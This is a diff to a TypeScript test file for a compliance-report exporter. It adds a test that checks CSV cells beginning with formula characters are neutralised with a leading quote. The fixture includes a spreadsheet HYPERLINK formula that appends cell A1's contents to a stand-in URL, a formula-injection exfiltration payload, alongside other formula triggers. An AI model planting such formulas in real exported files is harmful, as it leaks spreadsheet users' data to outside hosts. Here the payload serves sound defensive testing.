@@ -3,7 +3,7 @@ import ExcelJS from 'exceljs';
 import { expect, test, vi } from 'vitest';
 import type { Corpus, Doc } from '../../src/model/corpus.ts';
 import { computeCoverage } from '../../src/model/coverage.ts';
-import { COVERAGE_COLUMNS, EVIDENCE_COLUMNS, SOA_COLUMNS, coverageRows, soaRows, toCoverageCsv, toCoverageMarkdown, toCoverageXlsx, toSoaCsv } from '../../src/model/exports/index.ts';
+import { COVERAGE_COLUMNS, EVIDENCE_COLUMNS, SOA_COLUMNS, coverageRows, neutraliseFormula, soaRows, toCoverageCsv, toCoverageMarkdown, toCoverageXlsx, toSoaCsv } from '../../src/model/exports/index.ts';
 import { FIXTURE_AS_OF, loadFixture } from '../load-fixture.ts';
 
 const base = await loadFixture('valid');
@@ -102,6 +102,23 @@ test('should quote CSV cells that hold commas, quotes or line breaks', () => {
   const rows = byHeader(parseCsv(toCoverageCsv(tricky).slice(1)));
   expect(rows.find((r) => r.clause === '4.1')!.title_en).toBe('Context, "scope"\nand more');
   expect(toCoverageCsv(tricky)).toContain('"Context, ""scope""\nand more"');
+});
+
+test('should open as text, never as a formula, in a spreadsheet: cells starting with = + - @ tab or CR get a quote', () => {
+  const formulas = ['=HYPERLINK("https://example.invalid/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];
+  const hostile = {
+    ...report,
+    clauses: report.clauses.map((c, i) => ({ ...c, titleZh: formulas[i % formulas.length]!, ...(c.exclusion ? { exclusion: { ...c.exclusion, justification: formulas[0]! } } : {}) })),
+  };
+  for (const csv of [toCoverageCsv(hostile), toSoaCsv(hostile)]) {
+    const cells = parseCsv(csv.slice(1)).flat();
+    // What a spreadsheet runs as a formula: a cell beginning with one of these.
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain(`'${formulas[0]}`);
+  }
+  // Ordinary text is untouched.
+  expect(neutraliseFormula('理解组织及其环境')).toBe('理解组织及其环境');
+  expect(neutraliseFormula('-')).toBe("'-");
 });
 
 test('should list every requirement clause in the statement of applicability CSV', () => {
